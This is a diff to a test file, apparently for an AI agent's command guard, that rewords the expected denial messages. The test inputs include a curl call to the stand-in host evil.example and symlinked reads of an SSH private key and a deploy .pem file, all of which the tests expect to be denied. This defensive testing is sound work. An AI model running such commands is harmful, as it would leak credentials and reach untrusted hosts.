@@ -23,7 +23,7 @@ for (const on of API_STORES) {
       const agent = await working(fixture);
       const told = await agent.ask('curl http://evil.example/x');
       assert.equal(told.verdict, 'deny');
-      assert.match(told.because, /^curl http:\/\/evil\.example\/x: it talks to other machines/);
+      assert.match(told.because, /^curl http:\/\/evil\.example\/x: it connects to other machines/);
       assert.equal(told.rule, 'builtin:curl');
     });
 
@@ -113,7 +113,7 @@ for (const on of API_STORES) {
       const links = { 'notes.txt': '/keys/.ssh/id_ed25519' };
       const told = await agent.ask('cat notes.txt', { links });
       assert.equal(told.verdict, 'deny');
-      assert.match(told.because, /id_ed25519 is where keys and passwords are kept/);
+      assert.match(told.because, /id_ed25519 is a place for keys and passwords/);
       const whole = { '/cell/docs/notes.txt': '/srv/deploy.pem' };
       assert.equal(
         (await agent.ask('cat docs/../docs/notes.txt', { links: whole })).verdict,
